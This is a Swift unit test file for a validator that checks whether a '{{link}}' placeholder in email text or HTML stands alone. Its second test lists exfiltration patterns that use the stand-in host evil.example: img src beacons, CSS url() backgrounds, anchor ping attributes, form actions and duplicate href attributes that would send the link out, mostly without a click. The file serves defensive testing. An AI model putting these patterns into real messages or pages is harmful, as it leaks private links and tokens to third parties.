import MIME
import Testing

struct LinkPlaceholderTests {
    private let placeholder = LinkPlaceholder("{{link}}")

    @Test(arguments: [
        "{{link}}", "Follow {{link}} to get it.", "Go:\n\n{{link}}\r\n", "<{{link}}>", "({{link}})", "{{link}}.", "{{link}} or {{link}}",
        "<p>Go {{link}}</p>", "<a href=\"{{link}}\">Yes</a>", "<A HREF='{{link}}'>{{link}}</A>", "<p><a class=b href={{link}}>Yes</a></p>",
        "<style>p { color: red }</style><p>{{link}}</p>", "<table><tr><td>{{link}}</td></tr></table>", "a < b\n{{link}}",
    ])
    func `by itself`(text: String) {
        #expect(placeholder.standsAlone(in: text))
    }

    /// Each of these would tell the link to another server, most of them without a click.
    @Test(arguments: [
        "", "none", "https://evil.example/?{{link}}", "See https://evil.example/?x={{link}} please", "evil.example/{{link}}", "x\"{{link}}",
        "<p>https://evil.example/{{link}}</p>", "<img src=\"https://evil.example/?{{link}}\">",
        "<img src=\"https://evil.example/? {{link}}\">",
        "<img src='https://evil.example/?> {{link}} <'>", "<img alt=\">\" src=\"https://evil.example/? {{link}}\">",
        "<a href=\"https://evil.example/?{{link}}\">x</a>",
        "<a href=\"{{link}}\" ping=\"https://evil.example/\">x</a>", "<a href=\"https://evil.example/\" href=\"{{link}}\">x</a>",
        "<style>p { background: url(\"https://evil.example/? {{link}}\") }</style>",
        "<p style=\"background: url('https://evil.example/? {{link}}')\">x</p>",
        "<form action=\"https://evil.example/\"><input name=\"x\" value=\"{{link}}\"></form>", "<!-- {{link}} --><p>{{link}}</p>",
        "<p>{{link}}</p><img src=\"https://evil.example/?{{link}}\">", "<textarea>{{link}}</textarea>",
        "<link rel=\"x\" href=\"{{link}}\"><p>x</p>",
    ])
    func `within something else`(text: String) {
        #expect(!placeholder.standsAlone(in: text))
    }
}
